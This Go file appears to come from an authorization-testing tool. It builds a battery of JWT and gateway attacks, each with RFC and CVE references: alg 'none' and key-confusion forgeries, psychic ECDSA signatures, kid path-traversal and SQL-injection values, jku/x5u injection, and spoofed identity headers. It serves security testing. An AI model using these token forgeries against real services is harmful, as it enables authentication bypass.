package probe

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/authlab/authlab/engine"
	"github.com/authlab/authlab/engine/config"
)

// def is one attack of the battery.
type def struct {
	id, group, name, ref string
	// note, when set, makes an acceptance a Note with this reason: the
	// request gets in, but nobody gains anything by it.
	note string
	// build makes the request's credential, or says why the attack does
	// not apply.
	build func(p *prober) (*shot, string)
	// run replaces build for checks that take several requests.
	run func(p *prober, a *Attack)
}

// shot is what one attack sends.
type shot struct {
	token  string                    // put in the slot (the scheme is added)
	place  func(req *engine.Request) // instead of token: a placement of its own
	sent   []Placement
	header string // the JOSE header, for the report
	fetch  string // a key-server path: report whether it was fetched
	// forged, when set, is a value the client made up: the attack is
	// judged by whether it reached the backend (or became the principal).
	forged string
	// note overrides the def's note for this shot.
	note string
}

func (d def) row() *Attack {
	return &Attack{ID: d.id, Group: d.group, Name: d.name, Reference: d.ref}
}

// Well-known references, one spelling everywhere.
const (
	refNone      = "RFC 8725 §2.1, §3.1 · CVE-2018-1000531"
	refConfusion = "RFC 8725 §2.1, §3.1 · CVE-2015-9235, CVE-2016-10555 (key confusion)"
	refSig       = "RFC 8725 §3.3 · RFC 7515 §5.2"
	refTrust     = "RFC 8725 §3.10, §2.9"
	forgedValue  = "authlab-probe-forged"
	forgedSub    = "authlab-probe-forged"
)

// tokenShot sends a token where the baseline went.
func (p *prober) tokenShot(tok string) *shot {
	return &shot{token: tok, sent: []Placement{p.placed(tok)}, header: joseHeader(tok)}
}

const needJWT = "the credential is not a JWT"

// defs is the battery for this probe, in report order.
func (p *prober) defs() []def {
	var ds []def
	add := func(d def) { ds = append(ds, d) }

	// Signature.
	add(def{id: "sig-stripped", group: GroupSignature, name: "signature stripped (header.payload, no second dot)", ref: refSig + " · named attack: signature stripping",
		build: p.jwtShot(func(j *jwtParts) string { return j.h64 + "." + j.p64 })})
	add(def{id: "sig-empty", group: GroupSignature, name: "empty signature (header.payload.)", ref: refSig + " · named attack: signature stripping",
		build: p.jwtShot(func(j *jwtParts) string { return j.h64 + "." + j.p64 + "." })})
	add(def{id: "sig-truncated", group: GroupSignature, name: "signature truncated to its first half", ref: refSig,
		build: p.jwtShot(func(j *jwtParts) string { return j.h64 + "." + j.p64 + "." + j.s64[:len(j.s64)/2] })})
	add(def{id: "payload-bitflip", group: GroupSignature, name: "payload with one bit flipped, original signature", ref: refSig + " · RFC 8725 §3.10",
		build: p.jwtShot(func(j *jwtParts) string { return j.h64 + "." + flipPayload(j.p64) + "." + j.s64 })})

	// alg.
	for _, none := range []string{"none", "None", "NONE", "nOnE"} {
		for _, dot := range []bool{true, false} {
			id, name := "alg-"+none, fmt.Sprintf("alg %q, unsigned (header.payload.)", none)
			if !dot {
				id, name = id+"-nodot", fmt.Sprintf("alg %q, unsigned, no trailing dot (header.payload)", none)
			}
			none, dot := none, dot
			add(def{id: id, group: GroupAlg, name: name, ref: refNone, build: p.jwtShot(func(j *jwtParts) string {
				h := copyMap(j.header)
				h["alg"] = none
				t := seg(h) + "." + j.p64
				if dot {
					t += "."
				}
				return t
			})})
		}
	}
	for _, hs := range []string{"HS256", "HS384", "HS512"} {
		hs := hs
		add(def{id: "alg-" + strings.ToLower(hs) + "-pubkey", group: GroupAlg, name: hs + " signed with the public key as the HMAC secret", ref: refConfusion,
			build: func(p *prober) (*shot, string) { return p.confusion(hs) }})
	}
	add(def{id: "es-psychic", group: GroupAlg, name: "ECDSA psychic signature (r = s = 0)", ref: "CVE-2022-21449 (psychic signatures) · RFC 8725 §3.4",
		build: (*prober).psychic})

	// Claims, validly signed.
	now := p.r.Now
	add(def{id: "claims-expired", group: GroupClaims, name: "expired an hour ago (exp in the past)", ref: "RFC 7519 §4.1.4 · RFC 8725 §3.10",
		build: p.claimsShot(func(c map[string]any) string {
			c["exp"], c["iat"] = now.Add(-time.Hour).Unix(), now.Add(-2*time.Hour).Unix()
			if _, ok := c["nbf"]; ok {
				c["nbf"] = now.Add(-2 * time.Hour).Unix()
			}
			return ""
		})})
	add(def{id: "claims-nbf-future", group: GroupClaims, name: "not valid for another hour (nbf in the future)", ref: "RFC 7519 §4.1.5",
		build: p.claimsShot(func(c map[string]any) string { c["nbf"] = now.Add(time.Hour).Unix(); return "" })})
	add(def{id: "claims-iat-future", group: GroupClaims, name: "issued an hour from now (iat in the future)", ref: "RFC 7519 §4.1.6",
		note:  "iat is informational (RFC 7519 §4.1.6): accepting a future iat is allowed, refusing it is stricter",
		build: p.claimsShot(func(c map[string]any) string { c["iat"] = now.Add(time.Hour).Unix(); return "" })})
	add(def{id: "claims-iss-wrong", group: GroupClaims, name: "another issuer (iss https://attacker.example)", ref: "RFC 8725 §3.8",
		build: p.claimsShot(func(c map[string]any) string {
			if _, ok := c["iss"]; !ok {
				return "the baseline token has no iss: nothing shows the authorizer expects one"
			}
			c["iss"] = "https://attacker.example"
			return ""
		})})
	add(def{id: "claims-iss-missing", group: GroupClaims, name: "no iss claim", ref: "RFC 8725 §3.8",
		build: p.claimsShot(func(c map[string]any) string {
			if _, ok := c["iss"]; !ok {
				return "the baseline token has no iss: nothing to remove"
			}
			delete(c, "iss")
			return ""
		})})
	add(def{id: "claims-aud-wrong", group: GroupClaims, name: "another audience (aud authlab-probe-other-api)", ref: "RFC 8725 §3.9 · named attack: substitution (§2.7)",
		build: p.claimsShot(func(c map[string]any) string {
			if _, ok := c["aud"]; !ok {
				return "the baseline token has no aud: nothing shows the authorizer expects one"
			}
			c["aud"] = "authlab-probe-other-api"
			return ""
		})})
	add(def{id: "claims-aud-missing", group: GroupClaims, name: "no aud claim", ref: "RFC 8725 §3.9",
		build: p.claimsShot(func(c map[string]any) string {
			if _, ok := c["aud"]; !ok {
				return "the baseline token has no aud: nothing to remove"
			}
			delete(c, "aud")
			return ""
		})})
	add(def{id: "claims-exp-string", group: GroupClaims, name: "exp as a string, an hour in the past (\"exp\": \"…\")", ref: "RFC 7519 §2 (NumericDate), §4.1.4",
		build: p.claimsShot(func(c map[string]any) string {
			c["exp"] = strconv.FormatInt(now.Add(-time.Hour).Unix(), 10)
			return ""
		})})
	add(def{id: "claims-exp-huge", group: GroupClaims, name: "exp beyond 64 bits (99999999999999999999)", ref: "RFC 7519 §4.1.4 · named check: integer overflow",
		note:  "a token that never expires, signed with the real key: nothing is forged, but consider a maximum lifetime",
		build: p.claimsShot(func(c map[string]any) string { c["exp"] = json.Number("99999999999999999999"); return "" })})

	// Key selection.
	add(def{id: "kid-unknown", group: GroupKey, name: "unknown kid, signed with authlab's own key", ref: "RFC 7515 §4.1.4 · RFC 8725 §3.10",
		build: func(p *prober) (*shot, string) {
			return p.ownShot(func(h map[string]any, k *ownKey) { h["kid"] = "authlab-probe-unknown-kid" })
		}})
	add(def{id: "kid-traversal", group: GroupKey, name: "kid ../../../../../../dev/null, HS256 with an empty key", ref: refTrust + " · named attack: kid path traversal",
		build: p.hmacKid("../../../../../../dev/null", nil)})
	add(def{id: "kid-sql", group: GroupKey, name: "kid ' UNION SELECT 'key'--, HS256 with the secret \"key\"", ref: refTrust + " · named attack: kid SQL injection",
		build: p.hmacKid("authlab' UNION SELECT 'key'--", []byte("key"))})
	add(def{id: "jku", group: GroupKey, name: "jku pointing at authlab's JWKS on 127.0.0.1", ref: refTrust + " · RFC 7515 §4.1.2 · named attack: jku injection (SSRF)",
		build: (*prober).jku})
	add(def{id: "x5u", group: GroupKey, name: "x5u pointing at authlab's certificate on 127.0.0.1", ref: refTrust + " · RFC 7515 §4.1.5 · named attack: x5u injection (SSRF)",
		build: (*prober).x5u})
	add(def{id: "jwk-embedded", group: GroupKey, name: "embedded jwk header holding authlab's key", ref: "CVE-2018-0114 · RFC 7515 §4.1.3 · RFC 8725 §3.10",
		build: func(p *prober) (*shot, string) {
			return p.ownShot(func(h map[string]any, k *ownKey) { h["kid"], h["jwk"] = k.kid, k.jwk })
		}})
	add(def{id: "x5c-embedded", group: GroupKey, name: "embedded x5c header holding authlab's self-signed certificate", ref: "RFC 7515 §4.1.6 · RFC 8725 §3.10",
		build: func(p *prober) (*shot, string) {
			return p.ownShot(func(h map[string]any, k *ownKey) { h["x5c"] = []string{base64.StdEncoding.EncodeToString(k.cert)} })
		}})
	add(def{id: "crit-unknown", group: GroupKey, name: "crit naming an extension nobody understands", ref: "RFC 7515 §4.1.11",
		build: func(p *prober) (*shot, string) {
			if p.jwt == nil {
				return nil, needJWT
			}
			if p.key == nil {
				return nil, p.noKeyReason()
			}
			h := copyMap(p.jwt.header)
			h["crit"], h["authlab-probe"] = []string{"authlab-probe"}, true
			tok, err := signJWT(p.keyAlg, h, p.jwt.claims, p.key)
			if err != nil {
				return nil, err.Error()
			}
			return p.tokenShot(tok), ""
		}})

	// Transport.
	ds = append(ds, p.transportDefs()...)

	// Gateway.
	ds = append(ds, p.gatewayDefs()...)
	return ds
}

// jwtShot builds an attack that needs only the baseline token.
func (p *prober) jwtShot(f func(j *jwtParts) string) func(*prober) (*shot, string) {
	return func(p *prober) (*shot, string) {
		if p.jwt == nil {
			return nil, needJWT
		}
		return p.tokenShot(f(p.jwt)), ""
	}
}

// flipPayload flips the lowest bit of one character inside a string claim
// (sub first), keeping the JSON valid, and re-encodes the segment.
func flipPayload(p64 string) string {
	raw, err := b64.DecodeString(p64)
	if err != nil || len(raw) == 0 {
		return p64 + "A"
	}
	at := -1
	if i := strings.Index(string(raw), `"sub":"`); i >= 0 {
		at = i + len(`"sub":"`)
	} else if i := strings.Index(string(raw), `":"`); i >= 0 {
		at = i + len(`":"`)
	}
	if at >= 0 && at < len(raw) && isAlnum(raw[at]) {
		raw[at] ^= 1
	} else {
		raw[len(raw)/2] ^= 1
	}
	return b64.EncodeToString(raw)
}

func isAlnum(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

func (p *prober) noKeyReason() string {
	if p.cred.Key != nil {
		return "the signing key is not trusted by the authorizer (see notes)"
	}
	return "no signing key: give --key FILE, or --token NAME of a gateway token with a key"
}

// asymmetric reports whether an algorithm has a public key.
func asymmetric(alg string) bool {
	return alg != "" && !strings.HasPrefix(alg, "HS") && !strings.EqualFold(alg, "none")
}

// confusion signs the baseline claims with HMAC, the public key as secret.
func (p *prober) confusion(hs string) (*shot, string) {
	if p.jwt == nil {
		return nil, needJWT
	}
	if !asymmetric(p.jwt.alg) {
		return nil, fmt.Sprintf("the baseline is %s: there is no public key to take for an HMAC secret", p.jwt.alg)
	}
	if p.pub == nil {
		return nil, "no public key: give --public-key FILE (the key the authorizer verifies with)"
	}
	tok, err := signJWT(hs, p.jwt.header, p.jwt.claims, p.pub.Secret)
	if err != nil {
		return nil, err.Error()
	}
	return p.tokenShot(tok), ""
}

// psychic sends an ECDSA token whose signature is all zeros.
func (p *prober) psychic() (*shot, string) {
	if p.jwt == nil {
		return nil, needJWT
	}
	alg := "ES256"
	switch {
	case strings.HasPrefix(p.jwt.alg, "ES"):
		alg = p.jwt.alg
	case asymmetric(p.jwt.alg) || strings.HasPrefix(p.jwt.alg, "HS"):
		return nil, fmt.Sprintf("the route's tokens are %s, not ECDSA: a zero ECDSA signature does not apply", p.jwt.alg)
	}
	size := map[string]int{"ES256": 64, "ES384": 96, "ES512": 132}[alg]
	h := copyMap(p.jwt.header)
	h["alg"] = alg
	tok := seg(h) + "." + p.jwt.p64 + "." + b64.EncodeToString(make([]byte, size))
	return p.tokenShot(tok), ""
}

// claimsShot re-signs the baseline with altered claims.
func (p *prober) claimsShot(edit func(c map[string]any) string) func(*prober) (*shot, string) {
	return func(p *prober) (*shot, string) {
		if p.jwt == nil {
			return nil, needJWT
		}
		if p.key == nil {
			return nil, p.noKeyReason()
		}
		c := copyMap(p.jwt.claims)
		if why := edit(c); why != "" {
			return nil, why
		}
		tok, err := signJWT(p.keyAlg, p.jwt.header, c, p.key)
		if err != nil {
			return nil, err.Error()
		}
		return p.tokenShot(tok), ""
	}
}

// ownHeader is the baseline's header without its key references, for a
// token signed with authlab's key.
func (p *prober) ownHeader(k *ownKey) map[string]any {
	h := copyMap(p.jwt.header)
	for _, name := range []string{"kid", "jku", "jwk", "x5u", "x5c", "x5t", "x5t#S256", "crit"} {
		delete(h, name)
	}
	h["alg"] = k.alg
	return h
}

// ownShot signs the baseline claims with authlab's own key.
func (p *prober) ownShot(edit func(h map[string]any, k *ownKey)) (*shot, string) {
	if p.jwt == nil {
		return nil, needJWT
	}
	k, err := p.own()
	if err != nil {
		return nil, "making authlab's key: " + err.Error()
	}
	h := p.ownHeader(k)
	edit(h, k)
	tok, err := signJWT(k.alg, h, p.jwt.claims, k.key)
	if err != nil {
		return nil, err.Error()
	}
	return p.tokenShot(tok), ""
}

// hmacKid signs the baseline claims with HS256 and a chosen kid and secret.
func (p *prober) hmacKid(kid string, secret []byte) func(*prober) (*shot, string) {
	return func(p *prober) (*shot, string) {
		if p.jwt == nil {
			return nil, needJWT
		}
		h := copyMap(p.jwt.header)
		h["kid"] = kid
		tok, err := signJWT("HS256", h, p.jwt.claims, append([]byte{}, secret...))
		if err != nil {
			return nil, err.Error()
		}
		return p.tokenShot(tok), ""
	}
}

func (p *prober) jku() (*shot, string) {
	if p.jwt == nil {
		return nil, needJWT
	}
	k, err := p.own()
	if err != nil {
		return nil, "making authlab's key: " + err.Error()
	}
	srv, err := p.server()
	if err != nil {
		return nil, "starting authlab's key server: " + err.Error()
	}
	url := srv.put("/jku/jwks.json", "application/json", k.jwks)
	sh, why := p.ownShot(func(h map[string]any, k *ownKey) { h["kid"], h["jku"] = k.kid, url })
	if sh != nil {
		sh.fetch = "/jku/jwks.json"
	}
	return sh, why
}

func (p *prober) x5u() (*shot, string) {
	if p.jwt == nil {
		return nil, needJWT
	}
	k, err := p.own()
	if err != nil {
		return nil, "making authlab's key: " + err.Error()
	}
	srv, err := p.server()
	if err != nil {
		return nil, "starting authlab's key server: " + err.Error()
	}
	url := srv.put("/x5u/cert.pem", "application/pem-certificate-chain", k.certPEM())
	sh, why := p.ownShot(func(h map[string]any, k *ownKey) { h["x5u"] = url })
	if sh != nil {
		sh.fetch = "/x5u/cert.pem"
	}
	return sh, why
}

// forgedToken is a credential the client made up: the baseline unsigned
// (alg none) with another subject, or a made-up string.
func (p *prober) forgedToken() string {
	if p.jwt == nil {
		return forgedValue
	}
	h := copyMap(p.jwt.header)
	h["alg"] = "none"
	c := copyMap(p.jwt.claims)
	c["sub"] = forgedSub
	return seg(h) + "." + seg(c) + "."
}

func (p *prober) transportDefs() []def {
	var ds []def
	scheme := strings.TrimSpace(p.slot.Scheme)
	hasScheme := scheme != "" && p.slot.Kind != config.SrcQuery
	raw := func(id, name, ref, note string, value func(tok string) string) def {
		return def{id: id, group: GroupTransport, name: name, ref: ref, note: note, build: func(p *prober) (*shot, string) {
			if !hasScheme {
				return nil, fmt.Sprintf("the credential goes in %s without a scheme", p.slot.String())
			}
			v := value(p.token)
			return &shot{place: func(req *engine.Request) { setHeader(req, p.slot.Name, v) },
				sent: []Placement{{Where: p.slot.String(), Value: v, Secret: true}}, header: joseHeader(p.token)}, ""
		}}
	}
	caseNote := "auth schemes are case-insensitive (RFC 7235 §2.1): accepting is correct"
	ds = append(ds,
		raw("scheme-lowercase", "scheme in lower case (bearer …)", "RFC 7235 §2.1 · RFC 6750 §2.1", caseNote, func(t string) string { return "bearer " + t }),
		raw("scheme-uppercase", "scheme in upper case (BEARER …)", "RFC 7235 §2.1 · RFC 6750 §2.1", caseNote, func(t string) string { return "BEARER " + t }),
		raw("scheme-missing", "no scheme (the bare token)", "RFC 6750 §2.1",
			"a lenient parser, not a way in: the token is still verified", func(t string) string { return t }),
		raw("scheme-doubled", "scheme twice (Bearer Bearer …)", "RFC 6750 §2.1",
			"a lenient parser, not a way in: the token is still verified", func(t string) string { return "Bearer Bearer " + t }),
		raw("scheme-whitespace", "extra whitespace (Bearer, two spaces and a tab, then the token)", "RFC 6750 §2.1",
			"a lenient parser, not a way in: the token is still verified", func(t string) string { return "Bearer  \t" + t }),
	)
	empty := "empty credential (an empty value)"
	if hasScheme {
		empty = "empty credential (the scheme " + scheme + " alone)"
	}
	ds = append(ds, def{id: "empty", group: GroupTransport, name: empty, ref: "RFC 6750 §3.1",
		build: func(p *prober) (*shot, string) {
			v := strings.TrimSpace(p.slot.Scheme)
			return &shot{place: func(req *engine.Request) { p.putRaw(req, v) },
				sent: []Placement{{Where: p.slot.String(), Value: v}}}, ""
		}})
	dupRef := "RFC 9110 §5.3 (Authorization is not a list) · named attack: duplicate credential (parser differential)"
	for _, first := range []bool{false, true} {
		id, name := "duplicate-forged-second", "two values: the baseline, then a forged one"
		if first {
			id, name = "duplicate-forged-first", "two values: a forged one, then the baseline"
		}
		first := first
		ds = append(ds, def{id: id, group: GroupTransport, name: name, ref: dupRef,
			build: func(p *prober) (*shot, string) {
				forged := p.slot.Scheme + p.forgedToken()
				good := p.slot.Scheme + p.token
				vals := []string{good, forged}
				if first {
					vals = []string{forged, good}
				}
				sh := &shot{forged: forged, header: joseHeader(p.forgedToken())}
				for _, v := range vals {
					sh.sent = append(sh.sent, Placement{Where: p.slot.String(), Value: v, Secret: true})
				}
				sh.place = func(req *engine.Request) { p.putRaw(req, vals...) }
				return sh, ""
			}})
	}
	moved := "token in the query string instead of the header (access_token)"
	if p.slot.Kind == config.SrcQuery {
		moved = "token in the Authorization header instead of the query string"
	}
	ds = append(ds, def{id: "moved", group: GroupTransport, name: moved, ref: "RFC 6750 §2.3, §5.3 · identity sources (AWS-I1, AWSH-I1, HW-I1)",
		build: func(p *prober) (*shot, string) {
			tok := p.token
			if p.slot.Kind == config.SrcQuery {
				return &shot{place: func(req *engine.Request) {
					p.clearSlot(req)
					setHeader(req, "Authorization", "Bearer "+tok)
				}, sent: []Placement{{Where: "header Authorization", Value: "Bearer " + tok, Secret: true}}, header: joseHeader(tok)}, ""
			}
			return &shot{place: func(req *engine.Request) {
				p.clearSlot(req)
				req.Query.Set("access_token", tok)
				req.RawQuery = req.Query.Encode()
			}, sent: []Placement{{Where: "query access_token", Value: tok, Secret: true}}, header: joseHeader(tok)}, ""
		}})
	ds = append(ds, def{id: "huge", group: GroupTransport, name: "a 100 KB token", ref: "RFC 8725 §3.10 · gateway header limits (AWS-E6)",
		build: (*prober).huge})
	ds = append(ds, def{id: "garbage", group: GroupTransport, name: "not a JWT: garbage", ref: "RFC 8725 §3.3",
		build: func(p *prober) (*shot, string) {
			g := "authlab-probe-garbage%00<>'\"{}"
			if p.jwt != nil {
				g = "authlab.probe.garbage"
			}
			return p.tokenShot(g), ""
		}})
	return ds
}

// putRaw puts values in the slot exactly as given (no scheme added).
func (p *prober) putRaw(req *engine.Request, values ...string) {
	if p.slot.Kind == config.SrcQuery {
		req.Query.Del(p.slot.Name)
		for _, v := range values {
			req.Query.Add(p.slot.Name, v)
		}
		req.RawQuery = req.Query.Encode()
		return
	}
	setHeader(req, p.slot.Name, values...)
}

// huge is a 100 KB token: validly signed when the key is known (then an
// acceptance is only a missing size limit), else the baseline's signature
// over a padded payload.
func (p *prober) huge() (*shot, string) {
	pad := strings.Repeat("A", 100*1024)
	if p.jwt == nil {
		return p.tokenShot(p.token + pad), ""
	}
	c := copyMap(p.jwt.claims)
	c["authlab_probe_padding"] = pad
	if p.key != nil {
		tok, err := signJWT(p.keyAlg, p.jwt.header, c, p.key)
		if err != nil {
			return nil, err.Error()
		}
		sh := p.tokenShot(tok)
		sh.note = "validly signed with the real key: nothing is forged, but nothing bounds the token's size either (a gateway caps headers near 10 KB, AWS-E6)"
		return sh, ""
	}
	return p.tokenShot(p.jwt.h64 + "." + seg(c) + "." + p.jwt.s64), ""
}

// routeRef is a request for another route.
type routeRef struct{ method, path, template string }

// siblings are the other routes of the baseline's authorizer, with a
// concrete path each ({id} → 1, {rest+} → probe).
func (p *prober) siblings() []routeRef {
	var out []routeRef
	if p.slot.Authorizer == "" {
		return nil
	}
	for _, r := range p.e.Config().Routes {
		if r.Authorizer != p.slot.Authorizer || r.Path == p.r.Route {
			continue
		}
		m := p.o.Method
		if len(r.Methods) > 0 && !slices.Contains(r.Methods, m) && !slices.Contains(r.Methods, "ANY") {
			m = r.Methods[0]
		}
		out = append(out, routeRef{method: m, path: ConcretePath(r.Path), template: r.Path})
		if len(out) == 5 {
			break
		}
	}
	return out
}

// ConcretePath fills a route template's parameters ({id} → 1, {rest+} →
// probe), to probe a route by its template.
func ConcretePath(tpl string) string {
	segs := strings.Split(tpl, "/")
	for i, s := range segs {
		if strings.HasPrefix(s, "{") && strings.HasSuffix(s, "}") {
			if strings.HasSuffix(s, "+}") {
				segs[i] = "probe"
			} else {
				segs[i] = "1"
			}
		}
	}
	return strings.Join(segs, "/")
}

// route is the baseline's route configuration.
func (p *prober) route() *config.Route {
	for _, r := range p.e.Config().Routes {
		if r.Path == p.r.Route {
			return r
		}
	}
	return nil
}

func (p *prober) authorizerConfig() *config.Authorizer {
	for _, a := range p.e.Config().Authorizers {
		if a.Name == p.slot.Authorizer {
			return a
		}
	}
	return nil
}

// fromAuth reports whether a transformation value is taken from the
// authorizer's answer.
func fromAuth(values []string) bool {
	for _, v := range values {
		if strings.Contains(v, "request.auth[") || strings.Contains(v, "context.authorizer") {
			return true
		}
	}
	return false
}

func (p *prober) gatewayDefs() []def {
	var ds []def
	c3 := "AWS-C3 · AWSH-C1 · named attack: cached decision reused across routes"
	sib := p.siblings()
	if len(sib) == 0 {
		ds = append(ds, def{id: "cache-cross-route", group: GroupGateway, name: "the cached decision reused on another route", ref: c3,
			build: func(p *prober) (*shot, string) {
				return nil, fmt.Sprintf("no other route uses authorizer %s", orNone(p.slot.Authorizer))
			}})
	}
	for _, s := range sib {
		s := s
		ds = append(ds, def{id: "cache-cross-route:" + s.template, group: GroupGateway,
			name: fmt.Sprintf("the decision cached on %s reused on %s %s", orNone(p.r.Route), s.method, s.path), ref: c3,
			run: func(p *prober, a *Attack) { p.crossRoute(a, s) }})
	}
	ref := "ALL-1 · FWD-3 · named attack: identity header spoofing"
	var names, query []string
	if r := p.route(); r != nil && r.RequestTransformations != nil {
		for _, it := range r.RequestTransformations.SetHeaders {
			if fromAuth(it.Values) && !strings.EqualFold(it.Name, p.slot.Name) {
				names = append(names, it.Name)
			}
		}
		for _, it := range r.RequestTransformations.SetQuery {
			if fromAuth(it.Values) && it.Name != p.slot.Name {
				query = append(query, it.Name)
			}
		}
	}
	if a := p.authorizerConfig(); a != nil {
		for _, h := range engine.ForwardOptionsOf(a).AuthResponseHeaders {
			if !slices.ContainsFunc(names, func(n string) bool { return strings.EqualFold(n, h) }) {
				names = append(names, h)
			}
		}
	}
	if len(names) == 0 && len(query) == 0 {
		ds = append(ds, def{id: "forged-header", group: GroupGateway, name: "a client-forged header the gateway sets from the authorizer", ref: ref,
			build: func(p *prober) (*shot, string) {
				return nil, "the route sets no header or query parameter from the authorizer's answer (requestTransformations with ${request.auth[...]}, authResponseHeaders)"
			}})
	}
	for _, n := range names {
		n := n
		ds = append(ds, def{id: "forged-header:" + n, group: GroupGateway, name: "client-forged " + n + " header (the gateway sets it from the authorizer)", ref: ref,
			build: func(p *prober) (*shot, string) {
				sh := p.tokenShot(p.token)
				sh.forged = forgedValue
				sh.sent = append(sh.sent, Placement{Where: "header " + n, Value: forgedValue})
				tok := p.token
				sh.place = func(req *engine.Request) {
					p.slot.Put(req, tok)
					setHeader(req, n, forgedValue)
				}
				return sh, ""
			}})
	}
	for _, n := range query {
		n := n
		ds = append(ds, def{id: "forged-query:" + n, group: GroupGateway, name: "client-forged " + n + " query parameter (the gateway sets it from the authorizer)", ref: ref,
			build: func(p *prober) (*shot, string) {
				sh := p.tokenShot(p.token)
				sh.forged = forgedValue
				sh.sent = append(sh.sent, Placement{Where: "query " + n, Value: forgedValue})
				tok := p.token
				sh.place = func(req *engine.Request) {
					p.slot.Put(req, tok)
					req.Query.Set(n, forgedValue)
					req.RawQuery = req.Query.Encode()
				}
				return sh, ""
			}})
	}
	return ds
}

func orNone(s string) string {
	if s == "" {
		return "(none)"
	}
	return s
}
